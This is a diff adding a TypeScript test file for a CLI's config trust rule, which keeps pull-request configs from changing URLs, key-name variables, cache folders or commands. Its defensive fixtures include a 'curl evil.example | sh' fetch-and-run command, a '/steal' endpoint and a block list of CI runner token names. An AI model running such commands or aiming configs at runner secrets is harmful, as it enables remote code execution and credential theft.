@@ -1,0 +1,149 @@
+/**
+ * The trust rule on configs (src/config/trust.ts) and the config checks that back it: under a
+ * privileged event the head's config may change only inert keys; api_key_env never names a
+ * runner variable; cache_dir stays inside the repository.
+ */
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { main } from '../../src/cli/main';
+import { parseConfig } from '../../src/config/parse';
+import { applyTrust, isTrustedKey, TRUSTED_KEY_NAMES, TRUSTED_KEY_PATHS } from '../../src/config/trust';
+import type { Config } from '../../src/config/types';
+import { InputError } from '../../src/errors';
+import { recordingIo } from '../support/recording-io';
+
+const BASE = `retriever:
+  type: hybrid
+  dense: { base_url: "https://embeddings.example.com/v1", model: m1, api_key_env: EMB_KEY, cache_dir: .emb }
+gate:
+  max_drop: { "recall@5": 0.05 }
+`;
+
+function parseError(text: string): InputError {
+  try {
+    parseConfig(text, 'cfg.yml');
+  } catch (e) {
+    expect(e).toBeInstanceOf(InputError);
+    return e as InputError;
+  }
+  throw new Error('expected a config error');
+}
+
+describe('applyTrust', () => {
+  test('a head that switches to a command retriever keeps the base retriever; the keys are named', () => {
+    const head = parseConfig(`${BASE}k: [1, 5]\nchunking: { max_chars: 1200 }\n`.replace('type: hybrid', 'type: command\n  run: "curl evil.example | sh"'), 'h.yml');
+    const base = parseConfig(BASE, 'b.yml');
+    const t = applyTrust(head, base);
+    expect(t.config.retriever.type).toBe('hybrid');
+    expect(t.config.retriever.run).toBeUndefined();
+    expect(t.refused).toEqual(['retriever.run', 'retriever.type']);
+    // Inert settings are the head's.
+    expect(t.config.k).toEqual([1, 5]);
+    expect(t.config.chunking.max_chars).toBe(1200);
+  });
+
+  test('URLs, key names and cache folders come from the base; a section the base lacks is dropped', () => {
+    const head = parseConfig(
+      BASE.replace('https://embeddings.example.com/v1', 'http://127.0.0.1:9/steal').replace('EMB_KEY', 'OTHER_KEY').replace('.emb', 'elsewhere'),
+      'h.yml',
+    );
+    head.retriever.rerank = { url: 'http://127.0.0.1:9/rerank', api_key_env: 'EMB_KEY', top_n: 5, timeout_ms: 1, max_retries: 0 };
+    head.retriever.dense!.model = 'm2';
+    const t = applyTrust(head, parseConfig(BASE, 'b.yml'));
+    expect(t.config.retriever.dense).toMatchObject({ base_url: 'https://embeddings.example.com/v1', api_key_env: 'EMB_KEY', cache_dir: '.emb', model: 'm2' });
+    expect(t.config.retriever.rerank).toBeUndefined();
+    expect(t.refused).toEqual([
+      'retriever.dense.api_key_env',
+      'retriever.dense.base_url',
+      'retriever.dense.cache_dir',
+      'retriever.rerank.api_key_env',
+      'retriever.rerank.url',
+    ]);
+  });
+
+  test('a dense section only the base has is taken whole (type and URL stay together)', () => {
+    const t = applyTrust(parseConfig('k: [1, 5]\n', 'h.yml'), parseConfig(BASE, 'b.yml'));
+    expect(t.config.retriever.type).toBe('hybrid');
+    expect(t.config.retriever.dense?.base_url).toBe('https://embeddings.example.com/v1');
+  });
+
+  test('keys named base_url, url, api_key_env, cache_dir, run, headers, pass_env are trusted in any section, listed or not', () => {
+    // A section another part of the tool may add later (an answers endpoint), unknown to the list.
+    const head = { ...parseConfig('', 'h.yml'), answers: { base_url: 'http://127.0.0.1:9/v1', model: 'x', headers: { 'x-key': 'k' } } } as unknown as Config;
+    const base = { ...parseConfig('', 'b.yml'), answers: { base_url: 'https://chat.example.com/v1', model: 'y' } } as unknown as Config;
+    const t = applyTrust(head, base);
+    const answers = (t.config as unknown as { answers: Record<string, unknown> }).answers;
+    expect(answers.base_url).toBe('https://chat.example.com/v1');
+    expect(answers.headers).toBeUndefined();
+    expect(answers.model).toBe('x');
+    expect(t.refused).toEqual(['answers.base_url', 'answers.headers']);
+    for (const name of TRUSTED_KEY_NAMES) expect(isTrustedKey(`anything.${name}`)).toBe(true);
+    for (const key of TRUSTED_KEY_PATHS) expect(isTrustedKey(key)).toBe(true);
+    expect(isTrustedKey('chunking.max_chars')).toBe(false);
+  });
+
+  test("the base's gate is enforced; the head's is a proposal", () => {
+    const head = parseConfig(BASE.replace('0.05 }', '0.5 }\n  max_newly_failing: 3'), 'h.yml');
+    const t = applyTrust(head, parseConfig(BASE, 'b.yml'));
+    expect(t.config.gate.max_drop).toEqual({ 'recall@5': 0.05 });
+    expect(t.config.gate.max_newly_failing).toBe(0);
+    expect(t.gateProposal).toEqual(['gate.max_drop.recall@5: 0.05 → 0.5', 'gate.max_newly_failing: 0 → 3']);
+    expect(t.refused).toEqual([]);
+    // A head without the base's retriever is a change of trusted keys too: the base's stays.
+    const bare = applyTrust(parseConfig('', 'h.yml'), parseConfig(BASE, 'b.yml'));
+    expect(bare.config.retriever.type).toBe('hybrid');
+    expect(bare.refused).toContain('retriever.type');
+  });
+
+  test('the same config on both sides changes nothing', () => {
+    const t = applyTrust(parseConfig(BASE, 'h.yml'), parseConfig(BASE, 'b.yml'));
+    expect(t).toEqual({ config: parseConfig(BASE, 'x'), refused: [], gateProposal: [] });
+  });
+});
+
+describe('config checks behind the trust model', () => {
+  test.each(['GITHUB_TOKEN', 'ACTIONS_RUNTIME_TOKEN', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'INPUT_GITHUB-TOKEN'.replace('-', '_'), 'RUNNER_TOKEN'])(
+    'api_key_env: %s is refused with file, line and field',
+    (name) => {
+      const e = parseError(`retriever:\n  type: dense\n  dense:\n    base_url: https://x.example/v1\n    model: m\n    api_key_env: ${name}\n`);
+      expect(e.format()).toMatch(new RegExp(`^cfg\\.yml:6:\\d+: retriever\\.dense\\.api_key_env: .*${name}.*runner sets for itself`));
+      const r = parseError(`retriever:\n  rerank:\n    url: https://x.example/rerank\n    api_key_env: ${name}\n`);
+      expect(r.format()).toMatch(/^cfg\.yml:4:\d+: retriever\.rerank\.api_key_env: /);
+    },
+  );
+
+  test('an ordinary key name is accepted', () => {
+    expect(parseConfig(`retriever:\n  rerank:\n    url: https://x.example/rerank\n    api_key_env: COHERE_API_KEY\n`, 'c').retriever.rerank?.api_key_env).toBe('COHERE_API_KEY');
+  });
+
+  test.each(['/tmp/cache', '../outside', 'a/../../b', '~/cache', 'C:/cache'])('cache_dir %s is refused', (dir) => {
+    const e = parseError(`retriever:\n  type: dense\n  dense:\n    base_url: https://x.example/v1\n    model: m\n    cache_dir: "${dir}"\n`);
+    expect(e.format()).toMatch(/^cfg\.yml:6:\d+: retriever\.dense\.cache_dir: .*inside the repository/);
+  });
+
+  test('cache_dir inside the repository is accepted, pass_env and on_missing_key read', () => {
+    const c = parseConfig(`retriever:\n  type: command\n  run: ./r\n  pass_env: [MY_INDEX, HF_TOKEN]\n  on_missing_key: skip\n  dense:\n    base_url: https://x.example/v1\n    model: m\n    cache_dir: a/../.cache/emb\n`, 'c');
+    expect(c.retriever.dense?.cache_dir).toBe('a/../.cache/emb');
+    expect(c.retriever.pass_env).toEqual(['MY_INDEX', 'HF_TOKEN']);
+    expect(c.retriever.on_missing_key).toBe('skip');
+    expect(parseError('retriever:\n  pass_env: ["not a name"]\n').format()).toMatch(/retriever\.pass_env\[0\]/);
+    expect(parseError('retriever:\n  on_missing_key: maybe\n').format()).toMatch(/retriever\.on_missing_key.*'bm25', 'skip', 'fail'/);
+  });
+
+  test('the CLI exits 2 with the file, line and field for api_key_env: GITHUB_TOKEN', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'rg-trust-cli-'));
+    try {
+      writeFileSync(join(dir, 'cfg.yml'), 'retriever:\n  type: dense\n  dense:\n    base_url: https://x.example/v1\n    model: m\n    api_key_env: GITHUB_TOKEN\n');
+      writeFileSync(join(dir, 'golden.yml'), 'questions:\n  - id: Q1\n    question: q\n    relevant: [a.md]\n');
+      writeFileSync(join(dir, 'a.md'), '# A\n\ntext\n');
+      const io = recordingIo(dir);
+      const code = await main(['eval', '--dir', dir, '--config', 'cfg.yml', '--golden', 'golden.yml'], io);
+      expect(code).toBe(2);
+      expect(io.err).toMatch(/cfg\.yml:6:\d+: retriever\.dense\.api_key_env: .*GITHUB_TOKEN/);
+      expect(io.err).not.toMatch(/\n\s+at /);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
